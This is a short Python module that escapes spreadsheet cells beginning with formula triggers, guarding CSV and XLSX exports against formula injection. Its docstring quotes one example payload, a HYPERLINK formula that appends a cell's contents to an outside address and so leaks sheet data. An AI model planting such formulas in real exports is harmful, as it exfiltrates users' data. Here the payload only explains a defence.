"""Cells that a spreadsheet cannot execute (OWASP's CSV-injection rule).

Excel, LibreOffice and Google Sheets read a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return as a formula, in XLSX and in CSV alike: a body named
``=HYPERLINK("http://…"&A1,"Подробнее")`` would become a live link that leaks the sheet. Text that
begins so is prefixed with a single quote, which the spreadsheet shows as text; numbers (a negative
change included) stay numbers. JSON and HTML outputs keep the text as it is.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_value(value: Any) -> Any:
    """``value`` as a cell: text beginning with a formula trigger prefixed with ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def spreadsheet_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are escaped; numeric columns are left as they are."""
    escaped = frame.copy()
    for column in escaped.columns:
        if not pd.api.types.is_numeric_dtype(escaped[column]):  # booleans are numeric too
            escaped[column] = escaped[column].map(spreadsheet_value)
    return escaped
